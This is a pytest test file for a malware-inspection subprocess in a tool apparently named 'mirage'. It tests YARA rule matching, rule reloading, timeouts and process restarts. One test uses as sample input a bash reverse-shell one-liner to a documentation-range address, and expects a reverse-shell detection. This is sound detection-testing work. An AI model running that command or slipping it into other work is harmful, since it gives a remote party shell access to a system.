"""Captured files are looked at in a process of their own: its answers, its end, rules that change under it."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest

from mirage.app import inspecting
from mirage.app.config import AnalysisConfig, Config
from mirage.app.inspecting import LOOK_EVERY, InspectionProcess
from mirage.base.clock import ManualClock

MINE = 'rule mine {{ meta: description = "Mine" strings: $a = "{0}" condition: $a }}\n'


@pytest.fixture
def rules(tmp_path: Path) -> Path:
    (tmp_path / "mine").mkdir()
    (tmp_path / "mine" / "a.yar").write_text(MINE.format("quux-one"))
    return tmp_path / "mine"


@pytest.fixture
def clock() -> ManualClock:
    return ManualClock()


@pytest.fixture
def process(rules: Path, clock: ManualClock) -> Iterator[InspectionProcess]:
    found = InspectionProcess(Config(analysis=AnalysisConfig(rules=[str(rules)])), clock)
    yield found
    found.close()


def test_a_file_is_named_and_matched_with_our_rules_and_the_operators(process: InspectionProcess) -> None:
    found = process.inspect(b"#!/bin/sh\n: quux-one; bash -i >& /dev/tcp/192.0.2.7/9 0>&1\n")
    assert (found["kind"], found["matches"]) == ("shell script", ["reverse_shell_script", "mine"])
    assert found["body"]["indicators"]["addresses"] == ["192.0.2.7"]


def test_rules_that_changed_have_another_name_and_are_used(process: InspectionProcess, rules: Path, clock: ManualClock) -> None:
    before = process.rules()
    assert process.inspect(b"quux-two")["matches"] == []
    (rules / "a.yar").write_text(MINE.format("quux-two") + "\n")
    assert process.rules() == before
    clock.advance(LOOK_EVERY)
    assert process.rules() != before
    assert process.inspect(b"quux-two")["matches"] == ["mine"]


def test_a_file_that_takes_too_long_is_said_and_the_next_one_is_looked_at(
    process: InspectionProcess, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(inspecting, "SECONDS", 0.0)
    found = process.inspect(b"#!/bin/sh\n")
    assert (found["kind"], found["matches"], found["body"]["notes"]) == ("", [], ["looking at it failed: no answer in 0 s"])
    monkeypatch.setattr(inspecting, "SECONDS", 20.0)
    assert process.inspect(b"#!/bin/sh\n")["kind"] == "shell script"


def test_a_process_that_died_is_replaced(process: InspectionProcess) -> None:
    assert process.inspect(b"x\n")["kind"] == "text"
    assert process._process is not None
    process._process.kill()
    process._process.wait()
    assert process.inspect(b"x\n")["body"]["notes"][0].startswith("looking at it failed: ")
    assert process.inspect(b"x\n")["kind"] == "text"
